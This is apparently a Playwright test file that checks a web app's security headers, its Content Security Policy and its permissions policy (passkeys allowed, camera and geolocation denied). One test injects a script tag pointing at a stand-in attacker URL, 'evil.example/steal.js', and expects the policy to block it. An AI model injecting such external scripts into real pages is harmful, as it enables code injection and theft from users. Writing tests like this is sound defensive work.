import { expect } from "@playwright/test";
import { test } from "./fixtures.ts";

test("the browser understands all security headers, and runs no script but ours", async ({
  page,
  server,
}) => {
  const written: string[] = [];
  page.on("console", (message) => written.push(message.text()));
  await page.goto(`${server.url}/faq`);
  await page.goto(`${server.url}/auth`);
  await expect(page.getByRole("tab", { name: "Sign In" })).toBeVisible();
  expect(written.filter((text) => /policy|header|report/i.test(text))).toEqual([]);

  const stopped = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
          resolve(`${effectiveDirective} ${blockedURI}`),
        );
        const script = document.createElement("script");
        script.src = "https://evil.example/steal.js";
        document.head.append(script);
      }),
  );
  expect(stopped).toBe("script-src-elem https://evil.example/steal.js");
});

test("a page may ask for a passkey, and not for the camera or the place", async ({ page, server }) => {
  await page.goto(server.url);
  const allowed = await page.evaluate(() => {
    const policy = "featurePolicy" in document ? document.featurePolicy : undefined;
    if (typeof policy !== "object" || policy === null || !("allowsFeature" in policy)) return undefined;
    const { allowsFeature } = policy;
    if (typeof allowsFeature !== "function") return undefined;
    const names = ["publickey-credentials-get", "publickey-credentials-create", "camera", "geolocation"];
    return names.filter((name) => allowsFeature.call(policy, name));
  });
  expect(allowed).toEqual(["publickey-credentials-get", "publickey-credentials-create"]);
});
